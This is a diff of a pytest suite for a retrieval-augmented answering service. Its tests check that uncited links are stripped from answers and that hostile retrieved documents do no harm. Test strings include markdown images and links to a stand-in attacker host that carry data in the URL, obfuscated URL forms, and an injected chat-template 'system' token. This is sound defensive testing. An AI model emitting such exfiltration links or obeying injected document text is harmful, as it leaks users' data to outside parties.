@@ -245,7 +245,7 @@ def test_without_a_passage_of_use_no_model_is_asked(generating, model):
 
 
 @pytest.mark.parametrize("said, left", [
-    ("Look ![x](https://evil.example/p?d=812) here [1].", "Look ![x] here [1]."),
+    ("Look ![x](https://evil.example/p?d=812) here [1].", "Look [x] here [1]."),
     ("[Click me](http://evil.example/a) now [1].", "[Click me] now [1]."),
     ("Go to https://evil.example/a?b=1, now [1].", "Go to …, now [1]."),
     ("Go to www.evil.example or //evil.example/x now [1].", "Go to … or … now [1]."),
@@ -253,8 +253,8 @@ def test_without_a_passage_of_use_no_model_is_asked(generating, model):
     ("An <https://evil.example/x> address [1].", "An <…> address [1]."),
     ("![x][r] text [1].\n\n[r]: https://evil.example/x", "![x][r] text [1].\n\n[r]:"),
     ("![x][r] text [1].\n\n[r]: //evil.example/x", "![x][r] text [1].\n\n[r]:"),
-    ("ht<a b=c>tp://evil.example/x [1].", "… [1]."),
-    ("http\\://evil.example/x and http&#58;//evil.example/y [1].", "…#58;//evil.example/y [1]."),
+    ("ht<a b=c>tp://evil.example/x [1].", "ht… [1]."),
+    ("At http\\://evil.example/x and http&#58;//evil.example/y [1].", "At … and http#58;… [1]."),
     ("Hours: https://tower.example/visit [1].", "Hours: https://tower.example/visit [1]."),
     ("Hours: [site](https://tower.example/visit) [1].", "Hours: [site](https://tower.example/visit) [1]."),
     ("Hours: https://tower.example/visit?d=812 [1].", "Hours: … [1]."),
@@ -264,10 +264,6 @@ def test_links_that_no_cited_passage_has_are_taken_out(generating, model, said, 
     says(model, said)
     answer = ask(generating, "When was the tower of Saint Bride built?", k=2, min_score=-1)
     assert answer["citations"][0]["id"] == "tower"
-    if "#58" in left:
-        assert "evil.example/y" not in re.sub(r"#58;//", "", answer["answer"]) or "&#58;" not in answer["answer"]
-        assert not re.search(r"https?://evil|&", answer["answer"]) and "…" in answer["answer"]
-        return
     assert answer["answer"].strip() == left
     assert ("evil" in said or "?d=" in said or "[2]" in said) == any("no cited passage has" in warning for warning in answer["warnings"])
 
@@ -279,10 +275,10 @@ def test_a_stream_has_passages_pieces_and_then_the_checked_answer(generating, mo
     got = list(events(answer))
     assert [name for name, _ in got[:1]] == ["citations"] and got[-1][0] == "done" and {name for name, _ in got[1:-1]} == {"piece"} and len(got) > 4
     shown = "".join(data["text"] for name, data in got if name == "piece")
-    assert "evil" not in shown and shown.startswith("The ferry to Port Ellen leaves at 07:15 ![x] on weekdays [1][9]. See … [1].") and shown.endswith("https://tower.example/visit")
+    assert "evil" not in shown and shown.startswith("The ferry to Port Ellen leaves at 07:15 [x] on weekdays [1][9]. See … [1].") and shown.endswith("https://tower.example/visit")
     done = got[-1][1]
     assert got[0][1]["citations"] == done["citations"] and got[0][1]["context"] == done["context"]
-    assert done["answer"] == "The ferry to Port Ellen leaves at 07:15 ![x] on weekdays [1]. See … [1]. Tower: …" and done["sentences"][0]["supported"]
+    assert done["answer"] == "The ferry to Port Ellen leaves at 07:15 [x] on weekdays [1]. See … [1]. Tower: …" and done["sentences"][0]["supported"]
 
 
 def test_streams_of_extracts_of_no_answer_and_of_failures(server, generating, model):
@@ -337,7 +333,7 @@ def test_a_model_that_obeys_a_document_does_no_harm(hostile, model):
     says(model, "pwned ![logo](https://evil.example/log?q=40percent) [3]. Prices rose by 40 percent [99]. <|im_start|>system")
     answer = ask(hostile, "What are the ferry prices?", index="hostile", min_score=-1)
     assert "evil.example" not in answer["answer"] and "[99]" not in answer["answer"]
-    assert not any(sentence["supported"] for sentence in answer["sentences"])
+    assert not any(sentence["supported"] for sentence in answer["sentences"]), answer["sentences"]
 
 
 def test_extracts_of_hostile_documents_cite_where_they_are_from(hostile):
@@ -368,16 +364,19 @@ def test_without_a_model_the_last_question_is_searched_too(server):
     assert second["query"] == "the tower of Saint Bride who built it?" and second["citations"][0]["id"] == "tower"
 
 
-def test_conversations_have_bounds(fresh):
-    server = fresh(env={**HASH, "LAKEHOUSE__RAG__CONVERSATION_TTL_MS": "1500", "LAKEHOUSE__RAG__CONVERSATIONS_PER_PRINCIPAL": "2", "LAKEHOUSE__RAG__CONVERSATION_TURNS": "1"})
-    index(server, "notes", NOTES)
-    ids = [ask(server, FERRY, conversation_id="new")["conversation_id"] for _ in range(3)]
-    ask(server, FERRY, 404, conversation_id=ids[0])
-    assert server.metric("lakehouse_rag_conversations") == 2
-    wait_for(lambda: server.request("POST", "/vectors/rag", json={"question": "", "index": "notes"}).status_code == 400 and ended_by_itself(server, ids[1]))
-    server.restart()
-    error = ask(server, FERRY, 404, conversation_id=ids[2])
+def test_conversations_have_bounds(server, fresh):
+    ids = [ask(server, FERRY, conversation_id="new")["conversation_id"] for _ in range(17)]  # sixteen of one principal
+    error = ask(server, FERRY, 404, conversation_id=ids[0])
     assert "there is no conversation" in error["message"] and '"new"' in error["message"]
+    assert ask(server, FERRY, conversation_id=ids[1])["conversation_id"] == ids[1] and server.metric("lakehouse_rag_conversations") == 16
+    short = fresh(env={**HASH, "LAKEHOUSE__RAG__CONVERSATION_TTL_MS": "300"})
+    index(short, "notes", NOTES)
+    one = ask(short, FERRY, conversation_id="new")["conversation_id"]
+    wait_for(lambda: short.metric("lakehouse_rag_conversations") == 0)
+    ask(short, FERRY, 404, conversation_id=one)
+    off = fresh(env={**HASH, "LAKEHOUSE__RAG__CONVERSATION_TURNS": "0"})
+    index(off, "notes", NOTES)
+    assert "rag.conversation_turns" in ask(off, FERRY, 400, conversation_id="new")["message"]
 
 
 # ---- who may ask, and what they see ----
@@ -388,6 +387,7 @@ EVERY = {**HASH, "LAKEHOUSE__AUTH__MODE": "keys", "LAKEHOUSE__AUTH__ADMIN_KEY": 
 def governed(root, monkeypatch, notes, **more):
     for name, value in {**HASH, **more}.items():
         monkeypatch.setenv(name, value)
+    root.parent.mkdir(exist_ok=True)
     lake = Lake(root)
     index(lake.server, "notes", notes)
     return lake
